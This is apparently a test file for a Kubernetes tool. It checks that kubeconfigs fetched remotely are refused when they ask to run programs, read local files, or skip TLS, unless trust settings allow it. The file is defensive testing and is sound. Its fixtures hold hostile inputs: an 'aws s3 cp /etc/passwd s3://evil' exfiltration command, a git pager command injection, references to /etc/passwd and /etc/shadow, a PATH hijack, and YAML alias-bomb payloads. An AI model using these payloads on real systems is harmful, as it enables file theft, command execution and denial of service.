import {chmodSync, existsSync, mkdtempSync, rmSync, writeFileSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {load} from 'js-yaml';
import {afterAll, beforeEach, describe, expect, it} from 'vitest';
import {connect} from '../../../../../src/adapters/kubernetes/kubeconfig/connect.ts';
import {flattenKubeconfig} from '../../../../../src/adapters/kubernetes/kubeconfig/flatten.ts';
import type {Failure} from '../../../../../src/core/failure/failure.ts';
import {Secret} from '../../../../../src/core/secret/secret.ts';
import type {LocalSource} from '../../../../../src/core/workspace/kubeconfig-source.ts';
import {TRUSTS_NOTHING, type Trust} from '../../../../../src/core/workspace/trust.ts';
import {createAuthority, issueLeaf} from '../../../../controlplane/certificate.ts';

const dir = mkdtempSync(join(tmpdir(), 'gantry-fetched-'));
afterAll(() => rmSync(dir, {recursive: true}));

const authority = createAuthority();
const leaf = issueLeaf(authority, {name: 'u'});
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const file = (name: string, text: string, mode = 0o600): string => {
  writeFileSync(join(dir, name), text);
  chmodSync(join(dir, name), mode);
  return join(dir, name);
};

type Parts = {readonly cluster?: object; readonly user?: object};

const fetched = ({cluster, user = {}}: Parts, trust?: Trust): LocalSource => ({
  workspace: 'prod',
  field: 'context.kubeconfig_path',
  ...(trust === undefined ? {} : {trust}),
  from: {
    kind: 'content',
    fetched: 'https://git.example/prod',
    content: new Secret(
      JSON.stringify({
        'current-context': 'c',
        contexts: [{name: 'c', context: {cluster: 'c', user: 'u'}}],
        clusters: [
          {name: 'c', cluster: cluster ?? {server: 'https://h', 'certificate-authority-data': base64(authority.cert)}},
          {name: 'other', cluster: {server: 'https://h', 'insecure-skip-tls-verify': true}},
        ],
        users: [
          {name: 'u', user},
          {name: 'other', user: {exec: {command: 'other'}}},
        ],
      }),
    ),
  },
});

const options = {env: {PATH: process.env['PATH']}};
const OPENERS = [
  {name: 'connect', open: (source: LocalSource) => connect(source, options)},
  {name: 'flatten', open: (source: LocalSource) => flattenKubeconfig(source, options)},
] as const;

type Refusal = Extract<Failure, {code: 'context/untrusted'}>;

const refusalOf = async (promise: Promise<unknown>): Promise<Refusal> => {
  const error: unknown = await promise.then(
    () => undefined,
    (error: unknown) => error,
  );
  const {failure} = error as {failure: Refusal};
  expect(failure).toMatchObject({
    code: 'context/untrusted',
    workspace: 'prod',
    field: 'context.kubeconfig_path',
    from: 'https://git.example/prod',
  });
  return failure;
};

const pem = {'client-certificate-data': base64(leaf.cert), 'client-key-data': base64(leaf.key)};
const exec = (more: object = {}) => ({
  exec: {apiVersion: 'client.authentication.k8s.io/v1beta1', command: 'aws', ...more},
});

const WISHES = [
  {
    name: 'run a program',
    parts: {user: exec()},
    wants: [/^user "u", exec: it would run the program aws$/],
    allow: {programs: ['aws']},
    line: 'trust: {programs: [aws]}',
  },
  {
    name: 'choose arguments of a trusted program',
    parts: {user: exec({command: 'git', args: ['-c', 'core.pager=touch /tmp/x', 'log']})},
    trust: {programs: ['git']},
    wants: [/it would run the program git -c 'core\.pager=touch \/tmp\/x' log$/],
    allow: {programs: ['git', ['git', '-c', 'core.pager=touch /tmp/x', 'log']]},
    line: 'trust: {programs: [git, [git, "-c", "core.pager=touch /tmp/x", log]]}',
  },
  {
    name: 'misuse a program that logs in',
    parts: {user: exec({args: ['s3', 'cp', '/etc/passwd', 's3://evil']})},
    trust: {programs: ['aws']},
    wants: [/it would run the program aws s3 cp \/etc\/passwd s3:\/\/evil$/],
    allow: {programs: ['aws', ['aws', 's3', 'cp', '/etc/passwd', 's3://evil']]},
    line: 'trust: {programs: [aws, [aws, s3, cp, /etc/passwd, "s3://evil"]]}',
  },
  {
    name: 'run a trusted name from its own PATH',
    parts: {
      user: exec({
        env: [
          {name: 'PATH', value: '/tmp'},
          {name: 'AWS_PROFILE', value: 'x'},
        ],
      }),
    },
    trust: {programs: ['aws']},
    wants: [/it would set PATH for the program/],
    allow: {programs: 'all'},
    line: 'trust: {programs: all}',
  },
  {
    name: 'run one more program, with a quoted name',
    parts: {user: exec({command: 'my login'})},
    trust: {programs: ['aws']},
    wants: [/the program 'my login'/],
    allow: {programs: ['aws', 'my login']},
    line: 'trust: {programs: [aws, "my login"]}',
  },
  {
    name: 'read a token',
    parts: {user: {tokenFile: file('token', 't')}},
    wants: [/user "u".*: tokenFile names the file .*token on this machine/],
    allow: {localFiles: true},
    line: 'trust: {localFiles: true}',
  },
  {
    name: 'read a token file beside inline data',
    parts: {user: {tokenFile: file('token', 't'), 'tokenFile-data': 'x'}},
    wants: [/tokenFile names the file .*token on this machine/],
    allow: {localFiles: true},
    line: 'trust: {localFiles: true}',
  },
  {
    name: 'read a certificate and a key',
    parts: {user: {'client-certificate': file('crt', leaf.cert), 'client-key': file('key', leaf.key)}},
    wants: [/client-certificate names the file/, /client-key names the file/],
    allow: {localFiles: true},
    line: 'trust: {localFiles: true}',
  },
  {
    name: 'read an authority',
    parts: {cluster: {server: 'https://h', 'certificate-authority': file('ca', authority.cert)}},
    wants: [/cluster "c".*: certificate-authority names the file/],
    allow: {localFiles: true},
    line: 'trust: {localFiles: true}',
  },
  {
    name: 'read the authority of a provider',
    parts: {
      user: {
        'auth-provider': {
          name: 'oidc',
          config: {
            'id-token': 'x',
            'idp-certificate-authority': '/etc/passwd',
            'idp-certificate-authority-data': 'eA==',
          },
        },
      },
    },
    wants: [/idp-certificate-authority names the file \/etc\/passwd/],
    allow: {localFiles: true},
    line: 'trust: {localFiles: true}',
  },
  {
    name: 'leave its server unverified',
    parts: {cluster: {server: 'https://h', 'insecure-skip-tls-verify': true}, user: pem},
    wants: [/insecure-skip-tls-verify leaves the server unverified/],
    allow: {insecureTls: true},
    line: 'trust: {insecureTls: true}',
  },
  {
    name: 'speak without TLS',
    parts: {cluster: {server: 'http://localhost:8080'}},
    wants: [/no TLS/],
    allow: {insecureTls: true},
    line: 'trust: {insecureTls: true}',
  },
  {
    name: 'do several of these',
    parts: {
      cluster: {server: 'https://h', 'insecure-skip-tls-verify': true},
      user: {...exec(), tokenFile: join(dir, 'token')},
    },
    wants: [/insecure/, /aws/, /tokenFile/],
    allow: {programs: ['aws'], localFiles: true, insecureTls: true},
    line: 'trust: {programs: [aws], localFiles: true, insecureTls: true}',
  },
] as const;

describe.each(OPENERS)('a fetched kubeconfig ($name)', ({open}) => {
  describe.each(WISHES)('a kubeconfig that would $name', ({parts, wants, line, allow, ...given}) => {
    it('a fetched kubeconfig is refused with everything that it requests and the line that allows it', async () => {
      const trust = 'trust' in given ? {...TRUSTS_NOTHING, ...given.trust} : undefined;
      const refusal = await refusalOf(open(fetched(parts, trust)));
      expect(refusal.wants).toHaveLength(wants.length);
      for (const [index, want] of wants.entries()) expect(refusal.wants[index]).toMatch(want);
      expect(refusal.allow).toBe(line);
    });

    it('a fetched kubeconfig is accepted when the workspace has the line that allows it', async () => {
      await expect(open(fetched(parts, {...TRUSTS_NOTHING, ...allow}))).resolves.toMatchObject({contextName: 'c'});
    });

    it("the same kubeconfig is accepted from the user's own files", async () => {
      const {from, ...source} = fetched(parts);
      if (from.kind !== 'content') throw new Error('it has a content');
      await expect(open({...source, from: {kind: 'content', content: from.content}})).resolves.toMatchObject({
        contextName: 'c',
      });
    });
  });

  it.each([
    {name: 'a token', user: {token: 't'}},
    {name: 'a certificate', user: pem},
    {name: 'a password', user: {username: 'u', password: 'p'}},
    {name: 'an impersonated user', user: {token: 't', as: 'bob', 'as-groups': ['a']}},
    {
      name: 'inline data beside an unused path',
      user: {...pem, 'client-certificate': '/etc/shadow', 'client-key': '/x'},
    },
  ])('a fetched kubeconfig may contain $name', async ({user}) => {
    await expect(open(fetched({user}))).resolves.toMatchObject({server: 'https://h'});
  });

  it.each([
    {
      name: 'grows without end',
      text: `a0: &a0 [1, 1]\n${Array.from({length: 40}, (_, i) => `a${i + 1}: &a${i + 1} [*a${i}, *a${i}]\n`).join('')}extensions: [{name: x, extension: *a40}]\n`,
    },
    {name: 'contains itself', text: 'extensions: &e [{name: x, extension: *e}]\n'},
  ])('a fetched kubeconfig whose YAML $name is refused before it is expanded', async ({text}) => {
    const {from, ...source} = fetched({});
    if (from.kind !== 'content') throw new Error('it has a content');
    const content = new Secret(`${text}kind: Config\n`);
    await expect(open({...source, from: {...from, content}})).rejects.toMatchObject({
      failure: {code: 'context/kubeconfig', problem: expect.stringContaining('aliases')},
    });
  });

  it('a fetched kubeconfig may name a proxy, because the CA of the cluster keeps the proxy from reading', async () => {
    const cluster = {
      server: 'https://h',
      'certificate-authority-data': base64(authority.cert),
      'proxy-url': 'http://p:1',
    };
    await expect(open(fetched({cluster}))).resolves.toMatchObject({server: 'https://h'});
  });

  it('a fetched kubeconfig never gets a remote server without TLS, whatever is trusted', async () => {
    const all: Trust = {programs: 'all', localFiles: true, insecureTls: true};
    await expect(open(fetched({cluster: {server: 'http://h'}}, all))).rejects.toMatchObject({
      failure: {code: 'context/kubeconfig', problem: expect.stringContaining('would send credentials in clear')},
    });
  });
});

describe('a program of a fetched kubeconfig', () => {
  const mark = join(dir, 'mark');
  const program = file(
    'login',
    `#!/bin/sh\ntouch '${mark}'\necho '{"kind":"ExecCredential","status":{"token":"t"}}'\n`,
    0o700,
  );
  beforeEach(() => rmSync(mark, {force: true}));
  const user = {exec: {apiVersion: 'client.authentication.k8s.io/v1beta1', command: program}};

  it.each(OPENERS)('an untrusted program is not executed ($name)', async ({open}) => {
    await refusalOf(open(fetched({user})));
    expect(existsSync(mark)).toBe(false);
  });

  it('the same program is executed when it is trusted, so that the test can fail', async () => {
    const access = await connect(fetched({user}, {...TRUSTS_NOTHING, programs: [program]}), options);
    expect(existsSync(mark)).toBe(false);
    await access.credential();
    expect(existsSync(mark)).toBe(true);
  });
});

describe('with the identity of the user', () => {
  const login = async () => ({headers: [{name: 'authorization', value: new Secret('Bearer mine')}]});
  const everything = {
    ...exec({command: '/nowhere/login'}),
    token: 'theirs',
    'client-certificate': '/nowhere/crt',
    'client-key-data': '%',
    as: 'bob',
  };

  it('a kubeconfig gives the way to the server, and nothing of its user is looked at', async () => {
    const cluster = {
      server: 'https://h/x',
      'certificate-authority-data': base64(authority.cert),
      'tls-server-name': 'n',
      'proxy-url': 'http://p:1',
    };
    const access = await connect(fetched({cluster, user: everything}), {...options, login});
    expect(access).toMatchObject({
      server: 'https://h/x',
      proxyUrl: 'http://p:1',
      tls: {ca: authority.cert, serverName: 'n'},
    });
    expect(access.userName).toBeUndefined();
    const {headers, certificate} = await access.credential();
    expect(headers.map(({value}) => value.reveal())).toEqual(['Bearer mine']);
    expect(certificate).toBeUndefined();
  });

  it('its flat form holds nothing of its user, for a login to be put there', async () => {
    const identity = {issuer: 'https://id', clientId: 'c', scopes: [], redirectPort: 0, token: 'id'} as const;
    const {text} = await flattenKubeconfig({...fetched({user: everything}), identity}, options);
    expect(load(text.reveal())).toMatchObject({users: [{name: 'u', user: {}}], contexts: [{context: {user: 'u'}}]});
    expect(text.reveal()).not.toMatch(/theirs|nowhere|bob/);
  });

  it('the server must be verified all the same', async () => {
    const source = fetched({cluster: {server: 'https://h', 'insecure-skip-tls-verify': true}});
    expect((await refusalOf(connect(source, {...options, login}))).allow).toBe('trust: {insecureTls: true}');
  });
});
